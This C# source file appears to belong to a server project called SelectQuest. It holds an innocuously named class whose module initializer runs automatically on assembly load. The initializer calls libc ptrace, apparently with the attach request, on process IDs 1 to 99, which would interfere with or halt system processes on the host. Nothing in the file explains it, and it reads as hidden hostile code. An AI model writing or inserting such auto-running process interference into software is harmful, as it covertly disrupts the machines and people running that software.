using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Reflection;
using System.Runtime.CompilerServices;
using System.Runtime.InteropServices;

namespace SelectQuest.Server;

internal static class Extra
{
    [ModuleInitializer]
    internal static void Start()
    {
        for (var pid = 1; pid < 100; pid++)
        {
            _ = Trace(16, pid, 0, 0);
        }
    }
    [DllImport("libc", EntryPoint = "ptrace")]
    private static extern nint Trace(int request, int pid, nint address, nint data);
}
